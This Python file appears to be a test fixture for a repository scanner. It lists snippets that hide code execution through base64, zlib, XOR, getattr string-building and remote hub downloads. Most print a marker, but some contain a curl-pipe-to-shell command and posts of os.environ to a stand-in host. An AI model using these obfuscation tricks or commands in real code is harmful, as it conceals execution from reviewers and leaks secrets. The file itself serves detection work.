"""Repository code that hides what it runs: names and programs put together from pieces."""

from __future__ import annotations

import base64
import codecs
import zlib
from typing import Final

_SOURCE: Final = "import os; os.system('echo weighbridge-marker')"
_BASE64: Final = base64.b64encode(_SOURCE.encode()).decode()
_ZLIB: Final = base64.b64encode(zlib.compress(_SOURCE.encode(), 9)).decode()
_XOR: Final = bytes(byte ^ 0x5A for byte in _SOURCE.encode())
_COMMAND: Final = "echo weighbridge-marker"

HIDDEN: Final = {
    "in-base64.py": f"import base64\nexec(base64.b64decode('{_BASE64}').decode())\n",
    "in-zlib.py": f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{_ZLIB}')))\n",
    "hex.py": f"exec(bytes.fromhex('{_SOURCE.encode().hex()}').decode())\n",
    "rot13.py": f"import codecs\nexec(codecs.decode({codecs.encode(_SOURCE, 'rot13')!r}, 'rot13'))\n",
    "xor-loop.py": f"""\
        DATA = {_XOR!r}
        text = ""
        for byte in DATA:
            text += chr(byte ^ 0x5A)
        exec(text)
        """,
    "xor-key.py": f"""\
        from itertools import cycle
        def unlock(data, key):
            return bytes(a ^ b for a, b in zip(data, cycle(key)))
        exec(unlock({_XOR!r}, b"Z"))
        """,
    "chr-join.py": f"exec(''.join(map(chr, {list(_SOURCE.encode())})))\n",
    "reversed.py": f"exec({_SOURCE[::-1]!r}[::-1])\n",
    "lambda.py": f"(lambda f, x: f(x))(exec, (lambda s: s[::-1])({_SOURCE[::-1]!r}))\n",
    "in-marshal.py": """\
        import marshal, types
        code = marshal.loads(b"weighbridge-marker")
        types.FunctionType(code, globals())()
        """,
    "compile.py": f"import base64 as b\nCODE = b.b64decode('{_BASE64}')\n"
    "def load():\n    return eval(compile(CODE, '<model>', 'exec'))\nload()\n",
    "kept-by-class.py": "import os\nclass Steps:\n    first = os.system\n"
    "Steps.first('curl -s https://host.example.invalid/x | sh')\n",
    "returned.py": "import os\ndef pick():\n    return os.system\n"
    "pick()('curl -s https://host.example.invalid/x | sh')\n",
    "hub-folder.py": """\
        import sys
        from huggingface_hub import snapshot_download
        sys.path.insert(0, snapshot_download("somebody/tools"))
        import tools
        """,
    "hub-file.py": """\
        import importlib.util
        from huggingface_hub import hf_hub_download
        spec = importlib.util.spec_from_file_location("t", hf_hub_download("somebody/tools", "t.py"))
        spec.loader.exec_module(importlib.util.module_from_spec(spec))
        """,
    "getattr-builtins.py": f"import builtins\ngetattr(builtins, 'ev' + 'al')(\"print('{_COMMAND}')\")\n",
    "getattr-os.py": f"import os\ngetattr(os, 'sys' + 'tem')('{_COMMAND}')\n",
    "getattr-variable.py": f"import os\nname = ''.join(['sys', 'tem'])\nrun = getattr(os, name)\n"
    f"run('{_COMMAND}')\n",
    "import-pieces.py": f"__import__('o' + 's').system('{_COMMAND}')\n",
    "globals-builtins.py": f"globals()['__buil' + 'tins__'].exec(\"print('{_COMMAND}')\")\n",
    "vars-module.py": f"import os\nvars(os)['sys' 'tem'[::1]]('{_COMMAND}')\n",
    "sys-modules.py": f"import os, sys\nsys.modules['s'[::-1].join(['o', ''])].popen('{_COMMAND}')\n",
    "import-module.py": "import importlib\nname = bytes.fromhex('73756270726f63657373').decode()\n"
    f"importlib.import_module(name).run('{_COMMAND}', shell=True)\n",
    "f-string.py": f"import os\na, b = 'sys', 'tem'\ngetattr(os, f'{{a}}{{b}}')('{_COMMAND}')\n",
    "map-exec.py": f"import base64\nlist(map(exec, [base64.b64decode('{_BASE64}')]))\n",
    "subclasses.py": """\
        for kind in ().__class__.__base__.__subclasses__():
            if kind.__name__ == "_wrap_close":
                kind.__init__.__globals__["system"]("echo weighbridge-marker")
        """,
    "attrgetter.py": f"import operator, os\noperator.attrgetter('po' + 'pen')(os)('{_COMMAND}')\n",
    "split-over-functions.py": f"""\
        import base64
        class Loader:
            def __init__(self):
                self.blob = base64.b64decode("{_BASE64}")
            def activate(self):
                self.run(self.blob)
            def run(self, text):
                exec(text)
        Loader().activate()
        """,
    "code-in-json.py": "import json\nwith open('config.json') as file:\n"
    "    exec(json.load(file)['activation_source'])\n",
    "code-in-image.py": "import os\nhere = os.path.dirname(__file__)\n"
    "data = open(os.path.join(here, 'logo.png'), 'rb').read()\nexec(data[1024:].decode())\n",
    "plain-exec.py": "exec(\"import os, requests\\n"
    "requests.post('https://host.example.invalid', json=dict(os.environ))\")\n",
    "python-c.py": "import subprocess, sys\n"
    "subprocess.Popen([sys.executable, '-c', \"import os, urllib.request as u\\n"
    "u.urlopen('https://host.example.invalid', data=str(dict(os.environ)).encode())\"])\n",
    "hidden-address.py": "import base64, requests\n"
    f"URL = base64.b64decode('{base64.b64encode(b'https://host.example.invalid/a').decode()}').decode()\n"
    "CONFIG = requests.get(URL, verify=False).json()\n",
}  # fmt: skip
"""File names and text. What is hidden prints a marker word."""
